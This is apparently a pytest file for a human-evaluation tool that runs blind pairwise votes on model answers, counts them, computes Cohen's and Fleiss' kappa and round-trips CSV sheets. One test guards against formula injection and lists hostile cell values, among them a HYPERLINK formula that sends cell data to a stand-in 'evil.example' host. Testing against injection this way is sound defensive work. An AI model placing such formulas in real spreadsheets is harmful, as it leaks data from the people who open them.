"""Human judgements: blind and in random order, durable at once, counted right, and agreement as published."""

import codecs
import csv
import json
import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from flows import terminal
from flows.cli import app
from storage.files import locked
from tasks.human import (
    ASPECTS,
    FORMULA,
    HumanEvalError,
    HumanStudy,
    Item,
    Vote,
    cast,
    cohens_kappa,
    find_study,
    first_model,
    fleiss_kappa,
    items_as_json,
    new_study,
    read_sheet,
    results,
    results_as_json,
    votes_of,
    write_sheet,
)


@pytest.fixture
def study(home: Path) -> HumanStudy:
    items = [Item(item=f"q{n}", instruction=f"Ask {n}.", input=None, a=f"alpha {n}", b=f"beta {n}") for n in range(20)]
    return new_study("student", "gpt", items, seed=0)


def say(study: HumanStudy, voter: str, item: str, winner: str, aspect: str = "helpful") -> Vote:
    """A vote for model a, model b or neither, in the words of what this voter sees."""
    first = first_model(study, item, voter)
    choice = "tie" if winner == "tie" else "first" if winner == first else "second"
    return Vote.model_validate({"item": item, "voter": voter, "aspect": aspect, "choice": choice})


def test_the_order_is_drawn_for_each_voter_and_item_and_nothing_names_a_model(study: HumanStudy) -> None:
    seen = {voter: [row["first"].split()[0] for row in items_as_json(study, voter)] for voter in ("ann", "bob")}
    assert seen["ann"] != seen["bob"]
    assert all(4 <= said.count("alpha") <= 16 for said in seen.values())
    assert seen["ann"] == [row["first"].split()[0] for row in items_as_json(study, "ann")]
    text = json.dumps(items_as_json(study, "ann"))
    assert "student" not in text and "gpt" not in text


def test_votes_count_for_the_model_and_not_for_the_place(study: HumanStudy) -> None:
    cast(study, [say(study, "ann", f"q{n}", "a" if n < 5 else "b" if n < 8 else "tie") for n in range(10)])
    found = results(study)["helpful"]
    assert (found.wins, found.ties, found.losses, found.items) == (5, 2, 3, 10)
    assert found.win_share and found.win_share.value == 0.5
    assert found.win_share.low < 0.5 < found.win_share.high
    assert found.agreement is None
    assert results(study)["honest"].votes == 0 and results(study)["honest"].win_share is None


def test_shares_are_of_all_votes_and_each_count_is_of_what_it_says(study: HumanStudy) -> None:
    for voter, winners in {"ann": ["a", "a", "b", "tie", "a", "a"], "bob": ["a", "b", "b"]}.items():
        cast(study, [say(study, voter, f"q{n}", winner) for n, winner in enumerate(winners)])
    found = results(study)["helpful"]
    assert (found.votes, found.items, found.voters, found.shared_items) == (9, 6, 2, 3)
    assert (found.wins, found.ties, found.losses) == (5, 1, 3)
    assert found.win_share and found.win_share.value == pytest.approx(5 / 9)
    assert found.loss_share and found.loss_share.value == pytest.approx(3 / 9)
    # Both alike on two of three; by chance 2/3 * 1/3 + 1/3 * 2/3 of them.
    assert found.agreement == pytest.approx((2 / 3 - 4 / 9) / (1 - 4 / 9))
    told = json.loads(results_as_json(study))
    assert (told["study"], told["a"], told["b"]) == (study.study_id, "student", "gpt")
    assert (told["aspects"]["helpful"]["wins"], told["aspects"]["honest"]["votes"]) == (5, 0)


def test_the_last_vote_of_a_voter_counts(study: HumanStudy) -> None:
    for winner in ("a", "b"):
        cast(study, [say(study, "ann", "q1", winner)])
    found = results(study)["helpful"]
    assert (found.wins, found.losses) == (0, 1)
    voted = {row["item"]: row["votes"] for row in items_as_json(study, "ann") if row["votes"]}
    assert voted == {"q1": {"helpful": say(study, "ann", "q1", "b").choice}}


def test_a_vote_is_on_disk_at_once_and_a_torn_line_is_none(study: HumanStudy) -> None:
    cast(study, [say(study, "ann", "q1", "a")])
    file = study.folder / "votes.jsonl"
    assert len(file.read_text().splitlines()) == 1
    with file.open("a") as torn:
        torn.write('{"item": "q2", "vo')
    assert len(votes_of(study)) == 1


def test_votes_of_another_process_are_waited_for_and_not_written_over(study: HumanStudy) -> None:
    line = say(study, "ann", "q1", "a").model_dump_json() + "\n"
    with ThreadPoolExecutor() as pool:
        with locked(study.study_id), (study.folder / "votes.jsonl").open("a") as other:  # halfway through a vote
            other.write(line[:20])
            other.flush()
            waiting = pool.submit(cast, study, [say(study, "bob", "q1", "a")])
            with pytest.raises(TimeoutError):
                waiting.result(0.5)
            other.write(line[20:])
        waiting.result()
    assert [voter for _, voter, _ in votes_of(study)] == ["ann", "bob"]


def test_an_item_of_another_study_is_refused(study: HumanStudy) -> None:
    with pytest.raises(HumanEvalError, match="no item 'x'"):
        cast(study, [Vote(item="x", voter="ann", aspect="helpful", choice="tie")])
    assert votes_of(study) == {}


def test_agreement_is_over_the_items_that_all_voted_on(study: HumanStudy) -> None:
    for voter, winners in {"ann": "aabb", "bob": "aabba"}.items():
        cast(study, [say(study, voter, f"q{n}", winner) for n, winner in enumerate(winners)])
    found = results(study)["helpful"]
    assert (found.agreement, found.kappa, found.shared_items) == (1.0, "Cohen", 4)
    cast(study, [say(study, "eve", f"q{n}", winner) for n, winner in enumerate("bbaa")])
    found = results(study)["helpful"]
    assert found.kappa == "Fleiss" and found.agreement is not None and found.agreement < 0


def test_voters_who_always_agree_are_not_called_one_voter(study: HumanStudy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(terminal.out, "width", 200)
    for voter in ("ann", "bob"):
        cast(study, [say(study, voter, f"q{n}", "tie", "harmless") for n in range(20)])
        cast(study, [say(study, voter, "q1" if voter == "ann" else "q2", "a", "honest")])
    lines = CliRunner().invoke(app, ["human-eval", "report"]).stdout.splitlines()
    honest, harmless = (next(line for line in lines if aspect in line) for aspect in ("honest", "harmless"))
    assert "no item that all voted on" in honest
    assert "all votes alike: no kappa" in harmless
    assert not any("one voter" in line for line in lines)


def test_a_study_of_two_students_has_the_names_that_their_answers_have(home: Path, tmp_path: Path) -> None:
    files = []
    for model in ("run-1/1", "run-1/2"):
        (tmp_path / model).mkdir(parents=True)
        files.append(tmp_path / model / "student.jsonl")
        answer = {"question_id": 1, "model_id": model, "choices": [{"index": 0, "turns": [f"By {model}."]}]}
        files[-1].write_text(json.dumps(answer) + "\n")
    (tmp_path / "question.jsonl").write_text(json.dumps({"question_id": 1, "turns": ["Who?"]}) + "\n")
    command = ["human-eval", "new", f"--questions={tmp_path / 'question.jsonl'}", "--answers", *map(str, files)]
    found = find_study(CliRunner().invoke(app, command).stdout.split()[-1])
    assert (found.model_a, found.model_b) == ("run-1/1", "run-1/2")


def test_cohens_kappa_is_that_of_the_usual_example() -> None:
    # Fifty grants, two readers: both yes 20, both no 15, only the first yes 5, only the second yes 10.
    pairs = [("y", "y")] * 20 + [("n", "n")] * 15 + [("y", "n")] * 5 + [("n", "y")] * 10
    assert cohens_kappa(pairs) == pytest.approx(0.4)
    assert cohens_kappa([("y", "y")] * 3) is None and cohens_kappa([]) is None


def test_fleiss_kappa_is_that_of_the_published_table() -> None:
    # Fleiss 1971 as it is mostly taught: fourteen raters, ten subjects, five categories; kappa 0.210.
    table = [
        (0, 0, 0, 0, 14), (0, 2, 6, 4, 2), (0, 0, 3, 5, 6), (0, 3, 9, 2, 0), (2, 2, 8, 1, 1),
        (7, 7, 0, 0, 0), (3, 2, 6, 3, 0), (2, 5, 3, 2, 2), (6, 5, 2, 1, 0), (0, 2, 2, 3, 7),
    ]  # fmt: skip
    rows = [[str(category) for category, count in enumerate(row) for _ in range(count)] for row in table]
    assert fleiss_kappa(rows) == pytest.approx(0.210, abs=0.0005)
    assert fleiss_kappa([["y"] * 3] * 4) is None and fleiss_kappa([]) is None


def filled(path: Path, fill: Any, delimiter: str = ",", encoding: str = "utf-8") -> None:
    with path.open(newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    with path.open("w", newline="", encoding=encoding) as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(row | fill(number, row) for number, row in enumerate(rows))


def test_a_sheet_goes_out_and_its_votes_come_back(study: HumanStudy, tmp_path: Path) -> None:
    path = tmp_path / "ann.csv"
    write_sheet(study, "ann", path)
    assert "student" not in path.read_text()
    alpha = lambda row: "first" if row["first"].startswith("alpha") else "Second "  # noqa: E731
    filled(path, lambda number, row: {"helpful": alpha(row), "honest": "tie" if number < 3 else ""})
    assert read_sheet(study, "ann", path) == 23
    found = results(study)
    assert (found["helpful"].wins, found["honest"].ties, found["harmless"].votes) == (20, 3, 0)
    write_sheet(study, "ann", path)
    assert read_sheet(study, "ann", path) == 23, "one that goes out again holds what was voted"


def test_a_sheet_shows_what_its_own_voter_was_asked_and_said(home: Path, tmp_path: Path) -> None:
    item = Item(item="q1", instruction="Translate.", input="Guten Tag", a="alpha", b="beta")
    study, path = new_study("student", "gpt", [item], seed=0), tmp_path / "ann.csv"
    cast(study, [say(study, "ann", "q1", "a"), say(study, "ann", "q1", "tie", "harmless")])
    cast(study, [say(study, "bob", "q1", "tie", "honest")])
    write_sheet(study, "ann", path)
    with path.open(newline="", encoding="utf-8-sig") as file:
        (row,) = csv.DictReader(file)
    assert (row["item"], row["instruction"], row["input"]) == ("q1", "Translate.", "Guten Tag")
    assert row[row["helpful"]] == "alpha" and {row["first"], row["second"]} == {"alpha", "beta"}
    assert (row["honest"], row["harmless"]) == ("", "tie")


def test_a_wrong_cell_and_a_wrong_voter_are_named_and_nothing_is_taken(study: HumanStudy, tmp_path: Path) -> None:
    path = tmp_path / "ann.csv"
    write_sheet(study, "ann", path)
    filled(path, lambda number, row: {"helpful": "left" if number == 2 else "tie"})
    with pytest.raises(HumanEvalError, match=r"ann\.csv, line 4, column helpful: 'left'"):
        read_sheet(study, "ann", path)
    filled(path, lambda number, row: {"helpful": "tie"})
    with pytest.raises(HumanEvalError, match="neither answer stands as bob saw it"):
        read_sheet(study, "bob", path)
    filled(path, lambda number, row: {"item": "q99"} if number == 2 else {})
    with pytest.raises(HumanEvalError, match=rf"line 4: {study.study_id} has no item 'q99'"):
        read_sheet(study, "ann", path)
    path.write_text(path.read_text().replace("helpful", "helpfull"))
    with pytest.raises(HumanEvalError, match=r"ann\.csv: no column helpful\."):
        read_sheet(study, "ann", path)
    assert votes_of(study) == {}


def test_no_text_in_a_sheet_is_a_formula_and_the_votes_come_back(home: Path, tmp_path: Path) -> None:
    texts = [
        '=HYPERLINK("http://evil.example?" & A1, "more")',
        "- first\n- second",
        "+1",
        "@SUM(A1)",
        "\t=1",
        "-" * 200_000,
    ]
    items = [Item(item=str(n), instruction=said, input=said, a=said, b=f"{said}!") for n, said in enumerate(texts)]
    study, path = new_study("a", "b", items, 0), tmp_path / "ann.csv"
    write_sheet(study, "ann", path)
    with path.open(newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA)]
    filled(path, lambda *_: {"helpful": "tie"})
    assert read_sheet(study, "ann", path) == len(texts)


def test_a_sheet_comes_back_as_a_spreadsheet_writes_it(home: Path, tmp_path: Path) -> None:
    items = [Item(item=f"q{n}", instruction="Größe?", input=None, a=f"{n}/2", b=f"beta {n}") for n in range(20)]
    study, path = new_study("student", "gpt", items, seed=0), tmp_path / "ann.csv"
    write_sheet(study, "ann", path)
    assert path.read_bytes().startswith(codecs.BOM_UTF8), "else it is opened in an encoding of the country"

    def edited(number: int, row: dict[str, str]) -> dict[str, str]:  # 7/2 becomes a day
        return {"helpful": "tie"} | {place: row[place].replace("/2", ". Feb") for place in ("first", "second")}

    filled(path, edited, delimiter=";")
    path.write_text(path.read_text().replace(";tie;;", ";tie", 3), encoding="utf-8")  # cells at the end of a row
    assert read_sheet(study, "ann", path) == 20
    write_sheet(study, "ann", path)
    filled(path, lambda *_: {}, encoding="cp1252")
    with pytest.raises(HumanEvalError, match=r"ann\.csv: not UTF-8 .* Save the sheet as CSV UTF-8"):
        read_sheet(study, "ann", path)


def test_ids_and_answers_that_are_numbers_come_back_from_a_spreadsheet(home: Path, tmp_path: Path) -> None:
    ids = ["1234567890123456", "50189900011246e1", "0123456789012345"]  # digests, as the others are
    items = [Item(item=key, instruction="What is 2 * 2?", input="2.0", a="4.0", b="5.0") for key in ids]
    study, path = new_study("student", "gpt", items, seed=0), tmp_path / "ann.csv"
    write_sheet(study, "ann", path)

    def saved(cell: str) -> str:
        try:
            return f"{float(cell):.6G}"
        except ValueError:
            return cell

    filled(path, lambda _, row: {name: saved(cell) for name, cell in row.items()} | {"helpful": "tie"})
    assert read_sheet(study, "ann", path) == 3
    assert {item for item, _, _ in votes_of(study)} == set(ids)
    path.write_text(path.read_text().replace("'", ""))
    assert read_sheet(study, "ann", path) == 3, "a sheet of before, or one whose marks are gone"


def test_without_its_id_the_newest_study_is_meant(study: HumanStudy) -> None:
    other = new_study("student", "claude", study.items, seed=0)
    for age, each in enumerate((other, study)):  # whichever has the greater id
        os.utime(each.folder / "study.json", (1000 + age, 1000 + age))
    assert find_study(None) == study
    os.utime(other.folder / "study.json", (2000, 2000))
    assert find_study(None) == other and find_study(study.study_id) == study
    with pytest.raises(HumanEvalError, match=r"no human evaluation gone .* lion human-eval new"):
        find_study("gone")
    with pytest.raises(HumanEvalError, match="nothing to judge"):
        new_study("student", "claude", [], seed=0)


def test_the_aspects_are_the_papers() -> None:
    assert ASPECTS == ("helpful", "honest", "harmless")


def test_a_torn_vote_is_cut_off_before_the_next_is_written(study: HumanStudy) -> None:
    item = study.items[0].item
    cast(study, [Vote(item=item, voter="ann", aspect="helpful", choice="first")])
    file = study.folder / "votes.jsonl"
    file.write_text(file.read_text() + '{"item": "to' + "o" * 500)  # longer than the line that takes its place
    cast(study, [Vote(item=item, voter="ben", aspect="helpful", choice="tie")])
    assert [vote.voter for vote in votes_of(study).values()] == ["ann", "ben"]
    assert file.read_text().endswith('"tie"}\n')
    file.write_text("no vote\n" + file.read_text())
    with pytest.raises(HumanEvalError, match=r"votes\.jsonl, line 1: no vote"):
        votes_of(study)
